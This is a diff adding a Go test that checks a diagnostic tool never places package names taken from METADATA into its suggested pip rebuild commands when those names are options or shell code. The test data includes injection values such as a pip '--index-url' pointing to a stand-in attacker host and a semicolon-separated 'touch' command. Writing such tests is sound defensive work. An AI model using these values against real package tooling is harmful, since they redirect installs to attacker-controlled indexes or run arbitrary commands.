@@ -199,3 +199,49 @@ func xformersImportsLive(t *testing.T, f *facts.Facts, id finding.ID) *finding.F
 	}
 	return got
 }
+
+// F14: an extension's distribution name comes from a METADATA in the
+// diagnosed root or image. A name that is a pip option or shell code is
+// never put in a command (before: "pip install --no-binary
+// --index-url=http://evil.example/simple ..."); a real name still is.
+func TestExtensionDistNameFromMetadataNeverAnOption(t *testing.T) {
+	for _, c := range []struct {
+		name     string
+		commands bool
+	}{
+		{"--index-url=http://evil.example/simple", false},
+		{"x;touch${IFS}pwned", false},
+		{"-e.", false},
+		{"evil-kernels", true},
+	} {
+		f := healthy()
+		f.Extensions = append(f.Extensions, facts.Extension{
+			Dist: c.name, Version: "1.0 --pre", Path: extSite + "/evil/_C.so", LinksTorch: true,
+			SASS: []string{"sm_80"}, Containers: 1, TargetSets: [][]string{{"sm_80"}},
+		})
+		var cmds []string
+		found := false
+		for _, fd := range Run(f) {
+			if fd.ID != finding.ExtensionArchUnsupported {
+				continue
+			}
+			found = true
+			for _, fx := range fd.Fixes {
+				cmds = append(cmds, fx.Commands...)
+			}
+		}
+		if !found {
+			t.Fatalf("%s: no extension-arch-unsupported finding", c.name)
+		}
+		all := strings.Join(cmds, "\n")
+		if !c.commands && (strings.Contains(all, c.name) || strings.Contains(all, "pwned") || strings.Contains(all, "index-url")) {
+			t.Errorf("%q reached a command:\n%s", c.name, all)
+		}
+		if c.commands && !strings.Contains(all, "--no-binary "+c.name+" ") {
+			t.Errorf("%q: no rebuild command:\n%s", c.name, all)
+		}
+		if strings.Contains(all, "--pre") {
+			t.Errorf("%q: a version that is not PEP 440 was pinned:\n%s", c.name, all)
+		}
+	}
+}
